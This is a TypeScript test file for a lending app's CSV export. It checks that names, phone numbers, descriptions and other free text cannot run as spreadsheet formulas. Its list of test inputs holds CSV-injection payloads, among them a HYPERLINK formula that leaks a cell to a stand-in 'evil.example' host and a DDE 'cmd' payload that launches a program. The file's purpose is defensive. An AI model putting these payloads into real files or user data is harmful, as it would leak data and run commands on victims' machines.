/**
 * The spreadsheets the app writes never run what a book holds: every text a lender (or a file
 * they imported) can put in a book reaches people.csv, loans.csv or payments.csv, and a spreadsheet
 * must show it, not run it. The values are the ones an attack run got through as live formulas.
 */
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import * as Y from 'yjs'
import { bookCsvFiles, inertCell } from '../../shared/book/export.ts'
import { addCity } from '../../shared/schema/city.ts'
import { addLoan } from '../../shared/schema/loan.ts'
import { recordDeposit } from '../../shared/deposit/writer.ts'
import { entryMap, loansMap, peopleMap } from '../../shared/schema/doc.ts'
import { addPerson } from '../../shared/schema/person.ts'
import { voidDeposit } from '../../shared/schema/void.ts'

const TODAY = '2026-11-23'
const NOW = '2026-11-22T10:00:00.000Z'

/** Texts a spreadsheet would run as a formula if they reached a cell as they are. */
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")\nx',
  '=1+2\nx',
  '=1+2\r\nx',
  '=1+2',
  '+1+2',
  '-1+2',
  '@SUM(1+2)',
  ' =1+2',
  '   +1+2\nx',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '\u00a0=1+2',
  '＝1+2',
  "=cmd|' /C calc'!A0",
]

/**
 * Whether a spreadsheet would read the cell as a formula: its first character that is not a space
 * or a line break is one that starts a formula, or it starts with a tab or a line break. Written
 * apart from the app's own pattern, so the test does not just repeat it.
 */
function live(cell: string): boolean {
  if (cell === '') return false
  if (['\t', '\r', '\n'].includes(cell[0] as string)) return true
  const first = cell.replace(/^[\s\u00a0\u3000]+/, '')[0] ?? ''
  return '=+-@＝＋－＠'.includes(first)
}

/** Every cell of a CSV file as a spreadsheet splits it (the BOM off). */
function cells(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { header: false }).data
}

/** A book whose every free text is an attack: names, villages, phone, notes, reasons. */
function poisonedBook(attack: string): { lender: Y.Doc; cities: Y.Doc } {
  const lender = new Y.Doc()
  const cities = new Y.Doc()
  const by = { account: 'lender@example.com', device: attack.trim() || 'Phone' }
  const cityId = addCity(cities, `${attack.trim()} village`.slice(0, 100), { now: NOW }) as string
  const personId = addPerson(
    lender,
    {
      name: `${attack}`.trim() === '' ? 'x' : attack,
      cityId,
      balance: 0,
      gender: 'male',
      phone: attack,
      aadhaar: attack,
    },
    { now: NOW, by },
  )
  const loanId = addLoan(
    lender,
    {
      personId,
      amount: 1_000_000,
      interestRate: 2,
      interestType: 'per_month',
      startDate: '2026-01-01',
      dueDate: '2026-12-31',
      description: attack,
    },
    { now: NOW, by },
  )
  const deposit = recordDeposit(
    lender,
    { date: '2026-02-01', description: attack, allocations: [{ loanId, amount: 50_000 }] },
    { now: NOW, by },
  )
  recordDeposit(
    lender,
    { date: '2026-03-01', description: attack, allocations: [{ loanId, amount: 20_000 }] },
    { now: NOW, by },
  )
  if (!deposit.ok) throw new Error('deposit')
  voidDeposit(lender, deposit.depositId, attack.trim() === '' ? 'x' : attack, { now: NOW, by })
  // The writers trim what they store; a doc from the network may hold the text untrimmed.
  lender.transact(() => {
    entryMap(peopleMap(lender), personId)?.set('petName', attack)
    entryMap(loansMap(lender), loanId)?.set('description', attack)
  })
  return { lender, cities }
}

describe('the spreadsheets the app writes', () => {
  it.each(ATTACKS)('hold %j as text in every file, whatever column it lands in', (attack) => {
    const { lender, cities } = poisonedBook(attack)
    const files = bookCsvFiles(lender, cities, TODAY)
    let seen = 0
    for (const [name, text] of Object.entries(files)) {
      for (const row of cells(text)) {
        for (const cell of row) {
          expect(live(cell), `${name}: ${JSON.stringify(cell)}`).toBe(false)
          // The text itself is all there, behind the mark that keeps it text.
          if (cell.includes(attack.trim())) seen++
        }
      }
    }
    // Name, phone, Aadhaar, relationship, village, description, note and reason all came out.
    expect(seen).toBeGreaterThanOrEqual(8)
  })

  it('keep figures as numbers, negative ones too, and only treat non-figures there as text', () => {
    expect(inertCell('-1234.50', true)).toBe('-1234.50')
    expect(inertCell('1234.50', true)).toBe('1234.50')
    expect(inertCell('-1234.50')).toBe("'-1234.50")
    expect(inertCell('-1+2', true)).toBe("'-1+2")
    expect(inertCell('=1+2\nx', true)).toBe("'=1+2\nx")
    const { lender, cities } = poisonedBook('=1+2\nx')
    const [header, row] = cells(bookCsvFiles(lender, cities, TODAY)['loans.csv'])
    const at = (name: string) => row?.[header?.indexOf(name) ?? -1]
    expect(at('Lent')).toBe('10000.00')
    expect(at('Interest rate (%)')).toBe('2')
    expect(at('Description')).toBe("'=1+2\nx")
  })

  it('leave ordinary text as it is', () => {
    for (const text of ['रमेश Kumar', 'Tractor - second hand', 'a@b.in', '9876543210', '']) {
      expect(inertCell(text)).toBe(text)
    }
  })
})
